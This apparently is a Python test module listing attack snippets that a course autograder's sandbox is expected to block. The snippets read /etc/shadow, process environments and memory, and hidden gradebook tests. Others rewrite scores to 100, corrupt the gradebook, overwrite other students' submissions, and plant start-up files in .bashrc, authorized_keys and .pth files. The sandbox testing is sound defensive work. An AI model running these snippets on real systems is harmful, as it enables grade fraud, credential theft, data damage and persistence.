"""Reading what is not the student's, and writing where the next one finds it."""

from tests.attacks.corpus import WALLS, Code, Kind

KIND = Kind("files")


def _reads(attack_id: str, what: str, code: str) -> object:
    return KIND.code(attack_id, what, "secrets", Code(code), stopped_by=WALLS)


def _writes(attack_id: str, what: str, code: str) -> object:
    return KIND.code(attack_id, what, "machine", Code(code), stopped_by=WALLS)


READS = {
    "read-source": ("Read the instructor's notebook.",
                    'loot(read(f"{COURSE}/source/toy/lines.ipynb"))'),
    "read-up": ("Walk up from the working folder and read what is there.", """
place = os.getcwd()
for _ in range(6):
    place = os.path.dirname(place)
    if place in ("/", "/usr", "/tmp"): break
    for above, folders, names in os.walk(place):
        if above.count("/") > place.count("/") + 4: folders.clear()
        for name in names[:50]: loot(read(os.path.join(above, name), 300_000))
"""),
    "read-release": ("Read release/, mistakes.py and notes.", """
for name in ("release/toy/lines.ipynb", "source/toy/mistakes.py", "instructor-notes.txt"):
    loot(read(f"{COURSE}/{name}"))
"""),
    "read-gradebook": ("Read hidden tests out of the gradebook.",
                       'loot(read(f"{COURSE}/gradebook.db"))'),
    "read-others": ("Read other submissions, graded notebooks and pages.", """
import glob
for kind in ("submitted", "autograded", "feedback"):
    for path in glob.glob(f"{COURSE}/{kind}/*/toy/*"): loot(read(path))
"""),
    "read-home": ("Read the instructor's home.", """
for place in {HOME, os.path.expanduser("~"), "/root", "/home"}:
    for above, folders, names in os.walk(place):
        if above.count("/") > place.count("/") + 2: folders.clear()
        for name in names[:100]: loot(read(os.path.join(above, name), 300_000))
"""),
    "read-passwords": ("Read accounts and keys of the system.", """
for path in ("/etc/passwd", "/etc/shadow", "/etc/hostname", "/etc/machine-id"):
    if read(path): tell("can read", path)
"""),
    "read-environment": ("Read one's own environment.", "loot(dict(os.environ))"),
    "proc-environ": ("Read the environments of other processes.", """
for pid in [p for p in os.listdir("/proc") if p.isdigit()] + ["self"]:
    loot(read(f"/proc/{pid}/environ"))
"""),
    "proc-cmdline": ("Read the command lines of other processes for the course's path.", """
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    if COURSE.encode() in read(f"/proc/{pid}/cmdline"): tell("sees the grader, pid", pid)
"""),
    "proc-descriptors": ("Open other processes' files through /proc/PID/fd, cwd and root.", """
import glob
for path in glob.glob("/proc/[0-9]*/fd/*"):
    if "/self/" in path or os.path.islink(path) is False: continue
    where = os.readlink(path) if os.access(path, os.R_OK) else ""
    if where.endswith((".ipynb", ".db", ".py")): loot(read(path))
for link in glob.glob("/proc/[0-9]*/cwd") + glob.glob("/proc/[0-9]*/root"):
    loot(read(f"{link}/{COURSE}/source/toy/lines.ipynb"))
    loot(read(f"{link}/instructor-notes.txt"))
"""),
    "own-descriptors": ("Read, seek and stat every descriptor that was inherited.", """
import stat
for number in range(256):
    try: mode = os.fstat(number).st_mode
    except OSError: continue
    if stat.S_ISREG(mode): loot(os.pread(number, 1_000_000, 0))
    if stat.S_ISDIR(mode): tell("holds a folder", os.listdir(number)[:3])
"""),
    "proc-memory": ("Search the memory of other processes.", """
for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
    maps = read(f"/proc/{pid}/maps").decode().splitlines()
    try: memory = open(f"/proc/{pid}/mem", "rb")
    except OSError: continue
    for line in maps[:300]:
        if " rw" not in line: continue
        low, high = (int(n, 16) for n in line.split()[0].split("-"))
        try:
            memory.seek(low)
            loot(memory.read(min(high - low, 30_000_000)))
        except (OSError, ValueError): continue
"""),
    "process-vm-readv": ("Read the parent's memory by a system call.", """
import ctypes
class Part(ctypes.Structure): _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
libc = ctypes.CDLL(None, use_errno=True)
for pid in {os.getppid(), 1}:
    for line in read(f"/proc/{pid}/maps").decode().splitlines()[:100]:
        if " rw" not in line: continue
        low, high = (int(n, 16) for n in line.split()[0].split("-"))
        size = min(high - low, 4_000_000)
        room = ctypes.create_string_buffer(size)
        mine, theirs = Part(ctypes.addressof(room), size), Part(low, size)
        if libc.process_vm_readv(pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0) > 0:
            loot(room.raw)
"""),
    "mounts-tell": ("Find the course's place in mounts, maps and module paths, then read it.", """
text = read("/proc/self/mountinfo").decode() + read("/proc/self/maps").decode()
import course, mnist_utils
places = set(re.findall(r"(/[\\w./-]+)", text)) | {os.path.dirname(course.__path__[0])}
for place in places:
    for name in ("source", "../source", "../../source", "gradebook.db", "../gradebook.db"):
        path = os.path.join(place, name)
        if os.access(path, os.R_OK) and os.path.isdir(path):
            try: tell("lists", path, len(os.listdir(path)))
            except OSError: pass
        loot(read(path))
"""),
    "walk-everything": ("Search every small text file that is not the system's.", """
skipped = ("/proc", "/sys", "/usr", "/lib", "/dev", "/opt", sys.prefix, sys.base_prefix)
count = 0
for above, folders, names in os.walk("/"):
    if above.startswith(skipped): folders.clear(); continue
    for name in names:
        path = os.path.join(above, name)
        if os.path.isfile(path) and count < 4000: loot(read(path, 200_000)); count += 1
"""),
    "bytecode-caches": ("Read mistakes and tests out of __pycache__ and IPython's history.", """
import glob
for pattern in ("{c}/**/__pycache__/*", "{h}/.ipython/**/*", "{h}/.cache/**/*",
                "{h}/.jupyter/**/*"):
    for path in glob.glob(pattern.format(c=COURSE, h=HOME), recursive=True)[:300]: loot(read(path))
"""),
    "traversal": ("Reach out of the folder by `..`, //, encoded and mixed paths.", """
here = os.getcwd()
for up in ("../" * 12, "/./" + "../" * 12, "//", "/proc/self/root/", "/proc/self/cwd/../../../../"):
    loot(read(up + COURSE.lstrip("/") + "/source/toy/lines.ipynb"))
    loot(read(up + HOME.lstrip("/") + "/diary.txt"))
"""),
    "open-by-handle": ("Open the course by an inode's handle, past all paths.", """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
folder = os.open("/", os.O_RDONLY)
for inode in (1, 2, 64, 128, 256):
    handle = ctypes.create_string_buffer((8).to_bytes(4, "little") + (1).to_bytes(4, "little")
                                         + inode.to_bytes(4, "little") + bytes(4))
    if libc.open_by_handle_at(folder, handle, os.O_RDONLY) >= 0: tell("opened inode", inode)
"""),
}  # fmt: skip

WRITES = {
    "write-gradebook": ("Give oneself points in the gradebook.", """
import sqlite3
base = sqlite3.connect(f"{COURSE}/gradebook.db", timeout=1)
base.execute("update grade set auto_score = 100, manual_score = 100")
base.execute("update grade_cell set max_score = 1000")
base.commit()
tell("wrote the gradebook")
"""),
    "delete-gradebook": ("Damage the gradebook, or lock it.", """
try:
    with open(f"{COURSE}/gradebook.db", "r+b") as file: file.seek(100); file.write(b"x" * 5000)
    tell("damaged it")
finally: pass
"""),
    "write-source": ("Change the instructor's notebook, for those who come later.", """
with open(f"{COURSE}/source/toy/" + MARK, "w") as file: file.write(MARK)
with open(f"{COURSE}/source/toy/lines.ipynb", "a") as file: file.write(" ")
tell("wrote into source")
"""),
    "write-others": ("Overwrite another student's submission.", """
with open(f"{COURSE}/submitted/zz-right/toy/lines.ipynb", "w") as file: file.write("{}")
tell("wrote into another's")
"""),
    "write-feedback": ("Write a page into somebody's feedback.", """
os.makedirs(f"{COURSE}/feedback/zz-right/toy", exist_ok=True)
with open(f"{COURSE}/feedback/zz-right/toy/{MARK}.html", "w") as file: file.write(MARK)
"""),
    "write-home": ("Leave start-up files in the instructor's home.", """
for name in (".bashrc", ".profile", ".ipython/profile_default/startup/00-x.py", ".pythonrc.py",
             ".config/autostart/x.desktop", ".ssh/authorized_keys", ".jupyter/jupyter_config.py",
             ".local/lib/python3.11/site-packages/usercustomize.py"):
    path = os.path.join(HOME, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "a") as file: file.write(f"# {MARK}\\n")
"""),
    "write-caches": ("Leave files in caches that the grader reads: matplotlib, IPython, JAX.", """
for name in (".cache/matplotlib/fontlist-v390.json", ".config/matplotlib/matplotlibrc",
             ".cache/jax/x", ".ipython/profile_default/db/x", ".cache/pip/x"):
    path = os.path.join(HOME, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as file: file.write(MARK)
"""),
    "write-packages": ("Write a .pth and bytecode into the environment.", """
import course, numpy
for folder in (os.path.dirname(numpy.__file__), os.path.dirname(os.path.dirname(numpy.__file__)),
               course.__path__[0], os.path.join(course.__path__[0], "__pycache__"), sys.prefix):
    try:
        path = os.path.join(folder, MARK + ".pth")
        with open(path, "w") as file: file.write(MARK)
        tell("wrote", path); os.remove(path)
    except OSError: pass
"""),
    "write-tmp": ("Leave files in shared temporary folders.", """
for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run", "/run/user/0", "/run/lock"):
    try:
        with open(f"{folder}/{MARK}", "w") as file: file.write(MARK)
    except OSError: pass
"""),
    "hard-link-out": ("Make hard links and renames across the wall.", """
for source in (f"{COURSE}/source/toy/lines.ipynb", f"{COURSE}/gradebook.db"):
    try: os.link(source, "mine"); tell("linked", source); loot(read("mine"))
    except OSError: pass
    try: os.rename(source, source + MARK); tell("renamed", source)
    except OSError: pass
"""),
    "chmod-everything": ("Take everybody's rights away.", """
for path in (COURSE, HOME, "/tmp", sys.prefix, "/usr/bin"):
    try:
        mode = os.stat(path).st_mode
        os.chmod(path, mode); tell("may change", path)
    except OSError: pass
"""),
    "grader-room": ("Write into the grader's temporary folders of other submissions.", """
import glob
for folder in glob.glob("/tmp/course-student-*"):
    if os.path.realpath(os.getcwd()).startswith(os.path.realpath(folder)): continue
    tell("sees another room")
    with open(f"{folder}/home/{MARK}", "w") as file: file.write(MARK)
"""),
}  # fmt: skip

ATTACKS = (
    *(_reads(name, what, code) for name, (what, code) in READS.items()),
    *(_writes(name, what, code) for name, (what, code) in WRITES.items()),
)
